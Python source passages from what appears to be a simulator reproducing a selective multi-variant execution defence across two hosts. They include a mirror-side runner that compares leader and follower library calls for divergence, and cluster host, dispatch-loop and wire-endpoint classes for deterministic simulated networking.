        while key not in self.verdicts:
            if not cluster.pump_one():
                raise MvxStateError(
                    f"cluster idle while leader awaits verdict {key}")
        return self.verdicts.pop(key)


# -- remote (mirror) side ------------------------------------------------------


class RemoteRegionRunner:
    """Host-1 protocol engine for one leader/mirror pair: applies state
    deltas, opens mirror regions, and replays the leader side of the
    lockstep channel from wire events."""

    def __init__(self, process: GuestProcess, monitor: SmvxMonitor,
                 host: ClusterHost, endpoint: WireEndpoint,
                 chan: int = 0):
        if monitor is None:
            raise MvxSetupError("mirror server must be built with smvx=True")
        self.process = process
        self.monitor = monitor
        self.host = host
        self.endpoint = endpoint
        self.chan = chan
        self.region_no = 0
        #: divergence discovered between sync points (relaxed lockstep:
        #: reported at the next sync or region end).
        self.alarm: Optional[DivergenceReport] = None
        self._dead = False
        self._pending_sync = None
        self.events_played = 0

    # -- frame entry -------------------------------------------------------

    def handle(self, msgs: List[Dict], deliver_at: float) -> None:
        for msg in msgs:
            kind = msg["type"]
            if kind == "region_start":
                self._on_region_start(msg)
            elif kind == "call":
                self._on_call(msg)
            elif kind == "sync":
                self._on_sync(msg)
            elif kind == "result":
                self._on_result(msg)
            elif kind == "region_end":
                self._on_region_end(msg)
            else:
                raise MvxStateError(f"unknown wire message {kind!r}")

    # -- region protocol ---------------------------------------------------

    def _on_region_start(self, msg: Dict) -> None:
        self.region_no = msg["region"]
        self.alarm = None
        self._dead = False
        self._pending_sync = None
        apply_state(self.process, msg["pages"], msg["heap"])
        self.monitor.region_start(self.process.main_thread(),
                                  msg["root"], msg["args"])

    def _on_call(self, msg: Dict) -> None:
        if self._dead:
            return
        event = CallEvent.from_dict(msg["event"])
        try:
            self._play(event)
        except MvxDivergence as divergence:
            self._abort(divergence.report)

    def _on_sync(self, msg: Dict) -> None:
        event = CallEvent.from_dict(msg["event"])
        if self._dead:
            self._send_verdict(event.seq, self.alarm is None, self.alarm)
            return
        spec = spec_for(event.name) or EmulationSpec(event.name,
                                                     Category.LOCAL)
        record = CallRecord(event.seq, event.name, event.args, LEADER)
        channel = self.monitor.region.channel
        self.process.charge(self.process.costs.rendezvous_ns,
                            "smvx-rendezvous")
        try:
            follower_record = channel.leader_announce(record)
        except MvxDivergence as divergence:
            self._abort(divergence.report)
            self._send_verdict(event.seq, False, divergence.report)
            return
        report = compare_calls(record, follower_record, spec.pointer_args)
        if report is not None:
            report = replace(report, task_id=event.task,
                             guest_pc=event.pc)
            self._abort(report)
            self._send_verdict(event.seq, False, report)
            return
        # follower stays parked in follower_announce until the executed
        # result arrives; the leader is free to run the moment the OK
        # verdict lands
        self._pending_sync = (event, spec, record, follower_record)
        self._send_verdict(event.seq, True, None)

    def _on_result(self, msg: Dict) -> None:
        if self._dead or self._pending_sync is None:
            return
        event = CallEvent.from_dict(msg["event"])
        _, spec, record, follower_record = self._pending_sync
        self._pending_sync = None
        channel = self.monitor.region.channel
        try:
            self._publish(channel, spec, event, follower_record)
        except MvxDivergence as divergence:
            self._abort(divergence.report)

    def _on_region_end(self, msg: Dict) -> None:
        if self._dead or self.monitor.region is None:
            self._send_verdict(-1, self.alarm is None, self.alarm)
            return
        try:
            self.monitor.region_end(self.process.main_thread())
        except MvxDivergence as divergence:
            self.alarm = divergence.report
            self._send_verdict(-1, False, divergence.report)
            return
        self._send_verdict(-1, True, None)

    # -- replaying the leader side of the channel --------------------------

    def _play(self, event: CallEvent) -> None:
        """One already-executed leader call: announce, compare, emulate,
        publish — the in-process ``_leader_call`` with leader memory
        reads replaced by wire payloads."""
        spec = spec_for(event.name) or EmulationSpec(event.name,
                                                     Category.LOCAL)
        record = CallRecord(event.seq, event.name, event.args, LEADER)
        channel = self.monitor.region.channel
        self.process.charge(self.process.costs.rendezvous_ns,
                            "smvx-rendezvous")
        follower_record = channel.leader_announce(record)
        report = compare_calls(record, follower_record, spec.pointer_args)
        if report is not None:
            report = replace(report, task_id=event.task,
                             guest_pc=event.pc)
            channel.leader_abort(report)
            raise MvxDivergence(report)
        self._publish(channel, spec, event, follower_record)
        self.events_played += 1

    def _publish(self, channel, spec: EmulationSpec, event: CallEvent,
                 follower_record: CallRecord) -> None:
        if event.execute_locally:
            channel.leader_publish(LibcResult(
                event.seq, event.retval, event.errno,
                execute_locally=True))
            return
        follower_ret, copied = self._emulate(spec, event, follower_record)
        channel.leader_publish(LibcResult(
            event.seq, follower_ret, event.errno,
            buffers_copied=tuple(copied)))

    def _emulate(self, spec: EmulationSpec, event: CallEvent,
                 follower: CallRecord) -> Tuple[int, List[Tuple[int, int]]]:
        """§3.3 emulation against wire payloads: write the leader's
        output-buffer bytes into the follower's memory, translate epoll
        data and pointer returns."""
        monitor = self.monitor
        region = monitor.region
        follower_space = region.variant.thread.space
        signed = to_signed(event.retval)
        copied: List[Tuple[int, int]] = []
        if signed >= 0:
            for arg_index, data in event.buffers:
                if arg_index >= len(follower.args):
                    continue
                follower_ptr = follower.args[arg_index]
                if follower_ptr == 0:
                    continue
                follower_space.write(follower_ptr, data, privileged=True)
                copied.append((follower_ptr, len(data)))
                monitor.stats.bytes_copied += len(data)
                self.process.charge(
                    len(data) * self.process.costs.ipc_copy_byte_ns,
                    "smvx-ipc-copy")
            if event.name in ("epoll_wait", "epoll_pwait") and signed > 0:
                monitor._translate_epoll_data(follower.args[1], signed)
        follower_ret = event.retval
        if spec.retval_is_pointer:
            follower_ret = None
            for index, value in enumerate(event.args):
                if value == event.retval and index < len(follower.args):
                    follower_ret = follower.args[index]
                    break
            if follower_ret is None:
                follower_ret = region.relocator.relocate_value(event.retval)
        return follower_ret & ((1 << 64) - 1), copied

    # -- divergence + verdicts ---------------------------------------------

    def _abort(self, report: DivergenceReport) -> None:
        if self.alarm is None:
            self.alarm = report
        self._dead = True
        if self.monitor.region is not None:
            # tears the mirror region down and logs the alarm on the
            # mirror host's own log (the host-1 operational record)
            self.monitor.abort_region(report)

    def _send_verdict(self, seq: int, ok: bool,
                      alarm: Optional[DivergenceReport]) -> None:
        self.endpoint.post(wire.verdict_msg(self.region_no, seq, ok,
                                            alarm), self.process)
        self.endpoint.flush(self.process)


# -- pairing a leader server with its mirror -----------------------------------


class DistributedSmvx:
    """Wire a leader server (host 0, built with ``smvx=False``) to its
    mirror (host 1, built identically but with ``smvx=True``): one
    channel per worker process, all multiplexed over one link pair."""

    def __init__(self, cluster: Cluster, leader_server, mirror_server,
                 sensitive: Optional[Sequence[str]] = None,
                 ring_capacity: int = 0):
        self.cluster = cluster
        self.leader_server = leader_server
        self.mirror_server = mirror_server
        host0, host1 = cluster.host(0), cluster.host(1)
        self.link_out = cluster.link(0, 1)
        self.link_back = cluster.link(1, 0)
        self.verdicts: Dict = {}
        self.monitors: List[DistributedLeaderMonitor] = []
        self.runners: Dict[int, RemoteRegionRunner] = {}

        leader_units = list(getattr(leader_server, "workers", None)
                            or [leader_server])
        mirror_units = list(getattr(mirror_server, "workers", None)
                            or [mirror_server])
        if len(leader_units) != len(mirror_units):
            raise MvxSetupError(
                "leader and mirror must have the same worker shape")
        for chan, (leader_unit, mirror_unit) in enumerate(
                zip(leader_units, mirror_units)):
            if leader_unit.monitor is not None:
                raise MvxSetupError(
                    "leader server must be built with smvx=False")
            monitor = DistributedLeaderMonitor(
                leader_unit.process, host0,
                WireEndpoint(host0, self.link_out, chan, ring_capacity),
                self.verdicts, chan=chan, sensitive=sensitive,
                alarm_log=leader_server.alarms)
            monitor.setup(leader_unit.loaded)
            monitor.checkpoint()
            leader_unit.monitor = monitor
            self.monitors.append(monitor)
            self.runners[chan] = RemoteRegionRunner(
                mirror_unit.process, mirror_unit.monitor, host1,
                WireEndpoint(host1, self.link_back, chan, ring_capacity),
                chan)
        leader_server.monitor = self.monitors[0]
        self.link_out.on_frame = self._deliver_to_mirror
        self.link_back.on_frame = self._deliver_to_leader
        sched = host0.kernel.sched
        if sched is not None:
            # scheduled serving: drain pending frames at scheduler idle
            # points so verdicts land while every task is parked; chained
            # so sim instrumentation hooks coexist with the pump
            sched.add_idle_hook(cluster.pump_one)

    @property
    def monitor(self) -> DistributedLeaderMonitor:
        return self.monitors[0]

    def _deliver_to_mirror(self, batch: Dict, deliver_at: float) -> None:
        self.runners[batch["chan"]].handle(batch["msgs"], deliver_at)

    def _deliver_to_leader(self, batch: Dict, deliver_at: float) -> None:
        for msg in batch["msgs"]:
            if msg["type"] == "verdict":
                key = (batch["chan"], msg["region"], msg["seq"])
                self.verdicts[key] = (msg, deliver_at)

    def settle(self) -> None:
        """Deliver every in-flight frame (end-of-run drain)."""
        self.cluster.pump()
