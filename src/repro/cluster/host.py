"""Hosts, the cluster fabric, and the global dispatch loop.

A :class:`Cluster` is a set of simulated machines, each a full
:class:`~repro.kernel.kernel.Kernel` with its *own* seed, virtual clock,
fault plane, VFS, and (optionally) scheduler, joined by directed
:class:`~repro.cluster.link.ClusterLink` pipes.  Nothing is shared
between hosts except wire frames.

**Dispatch rule.**  In-flight frames are delivered in global
virtual-time order: the pending frame with the lowest delivery time goes
first (ties broken by destination host, then frame number), and the
destination host's clock is advanced to the delivery time before its
handler runs — the conservative lowest-global-virtual-time-first rule of
parallel discrete-event simulation.  Host clocks therefore never run
backwards relative to the traffic they observe, and the interleaving is
a pure function of the seeds.

**Causal time.**  Every host keeps a Lamport clock: ``L += 1`` stamps an
outgoing frame, ``L = max(L, frame) + 1`` on receipt.  The per-host
flight recorders log the stamps on WIRE events, which is what makes the
cross-host trace merge (:mod:`repro.trace.merge`) causally consistent.
"""

from __future__ import annotations

import bisect
from typing import Callable, Dict, List, Optional, Tuple

from repro.cluster.link import ClusterLink, PendingFrame
from repro.cluster.wire import BatchRing, decode_frame, encode_frame
from repro.kernel.faults import FaultSchedule
from repro.kernel.kernel import Kernel
from repro.machine.costs import CostModel, DEFAULT_COSTS


class ClusterHost:
    """One simulated machine: a kernel plus cluster bookkeeping."""

    def __init__(self, cluster: "Cluster", host_id: int, seed: str,
                 costs: CostModel = DEFAULT_COSTS,
                 latency_ns: Optional[int] = None):
        self.cluster = cluster
        self.host_id = host_id
        self.kernel = Kernel(seed=f"{seed}/host{host_id}", costs=costs,
                             latency_ns=latency_ns, host_id=host_id)
        self.clock = self.kernel.clock
        #: Lamport clock (causal, not virtual time).
        self.lamport = 0

    def stamp_send(self) -> int:
        self.lamport += 1
        return self.lamport

    def observe_recv(self, frame_lamport: int) -> int:
        self.lamport = max(self.lamport, frame_lamport) + 1
        return self.lamport

    def wire_event(self, direction: str, link: str, meta: Dict) -> None:
        for hook in self.kernel.wire_hooks:
            hook(direction, link, meta)


class Cluster:
    """The fabric: hosts, links, and the global delivery queue."""

    def __init__(self, seed: str = "smvx-cluster", hosts: int = 2,
                 latency_ns: float = 100_000,
                 costs: CostModel = DEFAULT_COSTS):
        self.seed = seed
        self.latency_ns = latency_ns
        self.costs = costs
        self.hosts: List[ClusterHost] = [
            ClusterHost(self, index, seed, costs) for index in range(hosts)]
        self.links: Dict[Tuple[int, int], ClusterLink] = {}
        self._link_schedule: Optional[FaultSchedule] = None
        #: frames in flight, kept sorted by (deliver_at, dst, frame seq).
        self._pending: List[Tuple[Tuple[float, int, int], PendingFrame]] = []
        self.frames_delivered = 0

    # -- topology ------------------------------------------------------------

    def host(self, host_id: int) -> ClusterHost:
        return self.hosts[host_id]

    def link(self, src: int, dst: int) -> ClusterLink:
        """The directed link src -> dst, created on first use with its
        own fault plane seeded from the cluster seed."""
        key = (src, dst)
        if key not in self.links:
            self.links[key] = ClusterLink(self, src, dst,
                                          latency_ns=self.latency_ns,
                                          seed=self.seed)
            self.links[key].install(self._link_schedule)
        return self.links[key]

    def install_link_faults(self,
                            schedule: Optional[FaultSchedule]) -> None:
        """Arm (or disarm, with None) every link's fault plane —
        including links created after this call."""
        self._link_schedule = schedule
        for link in self.links.values():
            link.install(schedule)

    # -- the global dispatch loop --------------------------------------------

    def enqueue(self, frame: PendingFrame) -> None:
        # the key is unique per frame (src/dst/seq), so sorting never
        # falls through to comparing PendingFrame objects
        key = (frame.deliver_at, frame.link.dst, frame.link.src,
               frame.seq)
        bisect.insort(self._pending, (key, frame))

    def pump_one(self) -> bool:
        """Deliver the globally earliest in-flight frame, advancing the
        destination host to its delivery time.  Returns True if a frame
        was delivered (the scheduler idle-hook contract)."""
        if not self._pending:
            return False
        _, frame = self._pending.pop(0)
        dst = self.hosts[frame.link.dst]
        dst.clock.advance_to(frame.deliver_at)
        batch = decode_frame(frame.payload)
        lamport = dst.observe_recv(batch["lamport"])
        dst.wire_event("recv", frame.link.name, {
            "lamport": lamport, "frame_lamport": batch["lamport"],
            "frame": frame.seq, "chan": batch["chan"],
            "bytes": len(frame.payload),
            "msgs": [msg["type"] for msg in batch["msgs"]]})
        self.frames_delivered += 1
        if frame.link.on_frame is not None:
            frame.link.on_frame(batch, frame.deliver_at)
        return True

    def pump(self) -> int:
        """Deliver every in-flight frame (handlers may enqueue more)."""
        delivered = 0
        while self.pump_one():
            delivered += 1
        return delivered

    def pending_frames(self) -> int:
        return len(self._pending)

    def global_time_ns(self) -> float:
        """The cluster-wide virtual-time frontier (max over hosts)."""
        return max(host.clock.monotonic_ns for host in self.hosts)


class WireEndpoint:
    """Sender side of one (link, channel): batches protocol messages in
    a bounded ring and flushes them as length-prefixed frames.

    Flushes happen on protected-region boundaries, at sensitive sync
    points, and when the ring fills — never per call.  The flush charges
    the sending process the frame serialization cost (this is the
    leader-side work the distributed design trades the per-call
    rendezvous for)."""

    def __init__(self, host: ClusterHost, link: ClusterLink,
                 chan: int = 0, capacity: int = 0):
        self.host = host
        self.link = link
        self.chan = chan
        self.ring = BatchRing(capacity) if capacity else BatchRing()
        self.frame_seq = 0
        self.frames_flushed = 0
        self.bytes_flushed = 0

    def post(self, msg: Dict, process=None) -> None:
        """Queue a message; force a flush if the ring just filled."""
        if self.ring.append(msg):
            self.flush(process)

    def flush(self, process=None) -> Optional[PendingFrame]:
        msgs = self.ring.drain()
        if not msgs:
            return None
        lamport = self.host.stamp_send()
        self.frame_seq += 1
        payload = encode_frame(lamport, self.frame_seq, self.chan, msgs)
        if process is not None:
            costs = self.host.cluster.costs
            process.counter.charge(
                costs.wire_frame_ns + len(payload) * costs.wire_byte_ns,
                "smvx-wire")
        self.host.wire_event("send", self.link.name, {
            "lamport": lamport, "frame": self.frame_seq, "chan": self.chan,
            "bytes": len(payload),
            "msgs": [msg["type"] for msg in msgs]})
        frame = self.link.transmit(payload,
                                   self.host.clock.monotonic_ns, lamport)
        self.frames_flushed += 1
        self.bytes_flushed += len(payload)
        return frame
